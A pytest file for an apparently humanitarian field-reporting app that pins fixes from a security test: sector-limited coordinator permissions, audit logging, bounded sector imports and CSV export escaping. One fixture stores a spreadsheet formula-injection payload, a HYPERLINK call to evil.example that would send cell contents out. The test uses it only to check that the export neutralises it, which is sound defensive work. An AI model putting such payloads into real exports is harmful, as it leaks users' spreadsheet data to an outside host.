"""Security holes found by the black-box test of the first release, each pinned by a test.

1. A sector-limited coordinator must not redraw sectors (and every sector change is audited).
2. Digests respect a coordinator's sector limits.
6. Sector imports are bounded; the sector lines served to phones are simplified and compressed.
9. Digest CSV cells cannot start a spreadsheet formula.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import math

import pytest
from sqlalchemy import select

from fieldreport.accounts.models import AuditLog, User
from fieldreport.digests import exports, tasks
from fieldreport.reports.models import Report
from fieldreport.runtime import build_runtime
from fieldreport.sectors import errors as sector_errors
from fieldreport.sectors import limits
from fieldreport.sectors import service as sectors
from fieldreport.sectors.models import Sector
from fieldreport.web.app import build_app
from tests.digest_factories import hand_counted_day
from tests.helpers import (
    EAST,
    WEST,
    add_report,
    api_token,
    collection,
    csrf_from,
    feature,
    file_report,
    login,
    make_settings,
    square,
    utc,
)

WHOLE_REGION = square(12.0, 43.5, 2.0)


def _sector(session, code):
    return session.scalar(select(Sector).where(Sector.code == code))


def _limit(runtime, users, *codes):
    """Limit the coordinator ``coord`` to the sectors ``codes``; their ids."""
    with runtime.db.session_scope() as session:
        ids = [_sector(session, code).id for code in codes]
        limits.set_coordinator_sectors(session, users.coordinator.id, ids, None)
    return ids


@pytest.fixture
def west_east(runtime, users):
    """Sectors W and E; a report of obs2 in E (which a coordinator limited to W must not see)."""
    with runtime.db.session_scope() as session:
        sectors.import_sector_collection(session, collection(WEST, EAST))
        other = file_report(session, users.observer2, 43.47, 11.94)
        return {"west": _sector(session, "W").id, "east_report": other.id}


# --- 1. Sector authority ------------------------------------------------------------------------


def test_a_limited_coordinator_cannot_redraw_their_sector_over_the_region(
    client_for, runtime, users, west_east
):
    _limit(runtime, users, "W")
    client = client_for("coord")
    page = client.get(f"/sectors/{west_east['west']}/edit").get_data(as_text=True)
    redrawn = {
        "csrf_token": csrf_from(page),
        "code": "W",
        "name": "Sector W",
        "kind": "crossing_point",
        "geometry": json.dumps(WHOLE_REGION),
        "active": "y",
    }

    response = client.post(f"/sectors/{west_east['west']}/edit", data=redrawn)
    runtime.queue.drain()

    assert response.status_code == 403
    assert "Only an admin or a coordinator of every sector" in response.get_data(as_text=True)
    with runtime.db.session_scope(write=False) as session:
        west = session.get(Sector, west_east["west"])
        assert west.kind == "sector" and west.geometry == WEST["geometry"]
        assert session.get(Report, west_east["east_report"]).sector_id != west.id


def test_the_service_refuses_sector_changes_by_a_limited_coordinator(runtime, users, west_east):
    _limit(runtime, users, "W")
    with runtime.db.session_scope() as session:
        coordinator = session.get(User, users.coordinator.id)
        with pytest.raises(sector_errors.SectorAuthorityError):
            sectors.save_sector(
                session,
                sector_id=west_east["west"],
                code="W",
                name="Sector W",
                kind="crossing_point",
                geometry=WHOLE_REGION,
                active=True,
                actor=coordinator,
            )
        with pytest.raises(sector_errors.SectorAuthorityError):
            sectors.import_sector_collection(
                session, collection(feature("W", WHOLE_REGION)), coordinator
            )
        observer = session.get(User, users.observer.id)
        with pytest.raises(sector_errors.SectorAuthorityError):
            sectors.import_sector_collection(session, collection(WEST), observer)


def test_a_limited_coordinator_sees_their_sector_without_edit_controls(
    client_for, runtime, users, west_east
):
    _limit(runtime, users, "W")
    client = client_for("coord")

    page = client.get(f"/sectors/{west_east['west']}/edit")
    index = client.get("/sectors").get_data(as_text=True)

    html = page.get_data(as_text=True)
    assert page.status_code == 200
    assert 'id="sector-form"' not in html and "Save sector" not in html
    assert 'id="sector-history"' in html
    assert f"/sectors/{west_east['west']}/edit" in index and ">Edit<" not in index
    assert client.get("/sectors/new").status_code == 403


def test_every_sector_change_is_audited_and_shown_as_history(client_for, runtime, users):
    client = client_for("admin")
    token = csrf_from(client.get("/sectors/new").get_data(as_text=True))
    drawn = {
        "csrf_token": token,
        "code": "CP-1",
        "name": "Bridge",
        "kind": "sector",
        "geometry": json.dumps(square(11.88, 43.47, 0.005)),
        "active": "y",
    }
    assert client.post("/sectors/new", data=drawn).status_code == 302
    with runtime.db.session_scope(write=False) as session:
        sector_id = _sector(session, "CP-1").id
    redrawn = {**drawn, "kind": "dmz", "geometry": json.dumps(square(11.9, 43.5, 0.01))}
    assert client.post(f"/sectors/{sector_id}/edit", data=redrawn).status_code == 302
    deactivated = {k: v for k, v in redrawn.items() if k != "active"}
    assert client.post(f"/sectors/{sector_id}/edit", data=deactivated).status_code == 302
    imported = client.post(
        "/api/v1/sectors",
        json=collection(feature("CP-1", square(11.9, 43.5, 0.02), kind="dmz")),
        headers={"X-CSRFToken": api_token(client)},
    )
    assert imported.status_code == 201

    with runtime.db.session_scope(write=False) as session:
        entries = list(
            session.scalars(
                select(AuditLog).where(AuditLog.action.like("sectors.%")).order_by(AuditLog.id)
            )
        )
    actions = [e.action for e in entries]
    assert actions == ["sectors.create", "sectors.edit", "sectors.deactivate", "sectors.import"]
    assert {(e.username, e.address) for e in entries} == {("admin", "127.0.0.1")}
    edit = entries[1].detail
    assert (edit["code"], edit["kind_before"], edit["kind_after"]) == ("CP-1", "sector", "dmz")
    assert edit["vertices_before"] == edit["vertices_after"] == 5
    assert len(edit["geometry_sha256_before"]) == 64
    assert edit["geometry_sha256_before"] != edit["geometry_sha256_after"]
    assert entries[0].detail["geometry_sha256_before"] is None
    assert entries[2].detail["geometry_sha256_before"] == edit["geometry_sha256_after"]
    assert (entries[3].detail["active_before"], entries[3].detail["active_after"]) == (False, True)

    page = client.get(f"/sectors/{sector_id}/edit").get_data(as_text=True)
    history = page[page.index('id="sector-history"') :]
    for words in ("Created", "Changed", "Deactivated", "Imported", "admin", "127.0.0.1"):
        assert words in history
    assert "Sector → Demilitarized zone" in history
    assert edit["geometry_sha256_after"][:12] in history


# --- 2. Digests and sector limits -----------------------------------------------------------------


@pytest.fixture
def built_day(runtime, users):
    """The hand-counted day (sectors S-01, S-02, S-03), built; one verified report in S-02 has a
    narrative that is a spreadsheet formula."""
    with runtime.db.session_scope() as session:
        day = hand_counted_day(session, users)
        s2 = _sector(session, "S-02")
        add_report(
            session,
            users.observer2,
            utc("2026-11-24T14:00"),
            sector=s2,
            narrative='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            lon=11.95,
        )
    tasks.request_build(runtime.queue, day)
    runtime.queue.drain()
    return day


def test_a_limited_coordinator_exports_only_their_sectors_reports(
    client_for, runtime, users, built_day
):
    _limit(runtime, users, "S-02")
    client = client_for("coord")
    iso = built_day.isoformat()

    csv_rows = list(
        csv.DictReader(
            io.StringIO(client.get(f"/digests/{iso}/reports.csv").get_data(as_text=True))
        )
    )
    geojson = client.get(f"/digests/{iso}/reports.geojson").get_json()

    assert len(csv_rows) == 3 and {row["sector"] for row in csv_rows} == {"S-02"}
    assert {f["properties"]["sector"] for f in geojson["features"]} == {"S-02"}
    assert len(geojson["features"]) == 3
    # Everyone else still gets the whole day.
    everything = client_for("comm").get(f"/digests/{iso}/reports.csv").get_data(as_text=True)
    assert len(list(csv.DictReader(io.StringIO(everything)))) == 9


def test_a_limited_coordinator_is_refused_the_whole_missions_digest(
    client_for, runtime, users, built_day
):
    _limit(runtime, users, "S-02")
    client = client_for("coord")
    iso = built_day.isoformat()

    page = client.get(f"/digests/{iso}")
    api = client.get(f"/api/v1/digests/{iso}")

    assert page.status_code == 403
    html = page.get_data(as_text=True)
    assert "covers every sector" in html
    assert f"/digests/{iso}/reports.csv" in html and f"/digests/{iso}/reports.geojson" in html
    assert "Two men and a child killed by shelling." not in html
    for path in ("digest.pdf", "digest.html", "map.png"):
        assert client.get(f"/digests/{iso}/{path}").status_code == 403
    assert api.status_code == 403
    body = api.get_json()
    assert "figures" not in body and "covers every sector" in body["message"]
    assert body["links"]["csv"].endswith(f"/digests/{iso}/reports.csv")
    assert client_for("admin").get(f"/api/v1/digests/{iso}").status_code == 200


# --- 9. CSV formula injection ---------------------------------------------------------------------


def test_csv_cells_cannot_start_a_formula(client_for, built_day):
    text = client_for("comm").get(f"/digests/{built_day.isoformat()}/reports.csv")
    rows = list(csv.DictReader(io.StringIO(text.get_data(as_text=True))))

    (formula,) = [row for row in rows if "HYPERLINK" in row["narrative"]]
    assert formula["narrative"].startswith("'=HYPERLINK(")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_text_cell_starting_a_formula_is_prefixed(start):
    row = {column: f"{start}1+2" for column in exports.EXPORT_COLUMNS}
    row.update(latitude=-43.5, longitude=-11.25, urgent=False)

    (parsed,) = csv.DictReader(io.StringIO("".join(exports.csv_chunks(iter([row])))))

    assert parsed["narrative"] == f"'{start}1+2" and parsed["team"] == f"'{start}1+2"
    assert parsed["longitude"] == "-11.25"  # numbers are numbers, not text
    plain = {**row, "narrative": "Bursts of fire - from the ridge"}
    (kept,) = csv.DictReader(io.StringIO("".join(exports.csv_chunks(iter([plain])))))
    assert kept["narrative"] == "Bursts of fire - from the ridge"


# --- 6. Bounded imports, simplified and compressed sector lines ------------------------------


def circle(lon, lat, radius, vertices):
    ring = [
        [
            lon + radius * math.cos(2 * math.pi * i / vertices),
            lat + radius * math.sin(2 * math.pi * i / vertices),
        ]
        for i in range(vertices)
    ]
    return {"type": "Polygon", "coordinates": [[*ring, ring[0]]]}


@pytest.fixture
def small_limits(tmp_path, database_url):
    """An app whose sector import limits are small, with an admin logged in."""
    settings = make_settings(
        tmp_path,
        database_url,
        max_sector_features=3,
        max_sector_vertices=100,
        max_sector_total_vertices=250,
        max_sector_import_bytes=50_000,
    )
    runtime = build_runtime(settings)
    from fieldreport.accounts.service import create_user
    from tests.helpers import PASSWORD

    with runtime.db.session_scope() as session:
        create_user(session, "admin", role="admin", password=PASSWORD)
    client = build_app(settings, runtime).test_client()
    login(client, "admin")
    yield runtime, client
    runtime.queue.shutdown()
    runtime.db.dispose()


def _api_import(client, document):
    return client.post(
        "/api/v1/sectors",
        data=document if isinstance(document, bytes) else json.dumps(document),
        content_type="application/geo+json",
        headers={"X-CSRFToken": api_token(client)},
    )


def _reasons(response):
    return " | ".join(f"{e['feature']}: {e['reason']}" for e in response.get_json()["errors"])


def test_over_limit_imports_are_refused_with_the_feature_and_the_limit(small_limits):
    runtime, client = small_limits
    squares = [feature(f"S{i}", square(11 + i, 43, 0.1)) for i in range(4)]
    big = feature("BIG", circle(11.0, 43.0, 0.1, 150))
    many = [feature(f"M{i}", circle(11 + i, 43, 0.1, 90)) for i in range(3)]

    too_many = _api_import(client, collection(*squares))
    too_detailed = _api_import(client, collection(big))
    too_much_in_total = _api_import(client, collection(*many))
    too_large = _api_import(client, json.dumps(collection(squares[0])).encode() + b" " * 60_000)

    assert [r.status_code for r in (too_many, too_detailed, too_much_in_total, too_large)] == [
        422
    ] * 4
    assert "4 features; at most 3" in _reasons(too_many)
    assert "0: sector 'BIG' has 151 vertices; at most 100" in _reasons(too_detailed)
    assert "273 vertices in all; at most 250" in _reasons(too_much_in_total)
    assert "at most 50000 bytes" in _reasons(too_large)
    token = csrf_from(client.get("/sectors").get_data(as_text=True))
    page = client.post(
        "/sectors/import", data={"csrf_token": token, "text": json.dumps(collection(big))}
    )
    assert page.status_code == 422
    assert "sector &#39;BIG&#39; has 151 vertices; at most 100" in page.get_data(as_text=True)
    drawn = client.post(
        "/sectors/new",
        data={
            "csrf_token": token,
            "code": "BIG",
            "name": "Big",
            "kind": "sector",
            "geometry": json.dumps(big["geometry"]),
            "active": "y",
        },
    )
    assert drawn.status_code == 422 and "at most 100" in drawn.get_data(as_text=True)
    with runtime.db.session_scope(write=False) as session:
        assert session.scalar(select(Sector.id)) is None


def test_import_sectors_command_applies_the_same_limits(tmp_path, sqlite_url):
    from click.testing import CliRunner

    from fieldreport.cli import main
    from fieldreport.runtime import set_process_default

    env = {
        "FIELDREPORT_DATA_DIR": str(tmp_path / "data"),
        "DATABASE_URL": sqlite_url,
        "FIELDREPORT_MAX_SECTOR_VERTICES": "100",
    }
    big = tmp_path / "big.geojson"
    big.write_text(json.dumps(collection(feature("BIG", circle(11.0, 43.0, 0.1, 150)))))
    try:
        refused = CliRunner().invoke(main, ["import-sectors", str(big)], env=env)
    finally:
        set_process_default(None)
    assert refused.exit_code == 1
    assert "feature 0: sector 'BIG' has 151 vertices; at most 100" in refused.output


def test_served_sector_lines_are_simplified_and_gzipped_but_stored_exact(
    client_for, runtime, users
):
    # A circle of 10 km radius drawn with a vertex every ~3 m.
    exact = circle(11.9, 43.47, 0.09, 19_000)
    with runtime.db.session_scope() as session:
        sectors.import_sector_collection(session, collection(feature("ROUND", exact)))
    client = client_for("obs1")

    plain = client.get("/api/v1/sectors", headers={"Accept-Encoding": "identity"})
    zipped = client.get("/api/v1/sectors", headers={"Accept-Encoding": "gzip"})

    stored_size = len(json.dumps(exact))
    served = plain.get_json()["features"][0]["geometry"]
    assert len(plain.get_data()) * 10 < stored_size
    assert 50 < len(served["coordinates"][0]) < 2000
    assert zipped.headers["Content-Encoding"] == "gzip"
    assert json.loads(gzip.decompress(zipped.get_data())) == plain.get_json()
    with runtime.db.session_scope(write=False) as session:
        assert len(_sector(session, "ROUND").geometry["coordinates"][0]) == 19_001
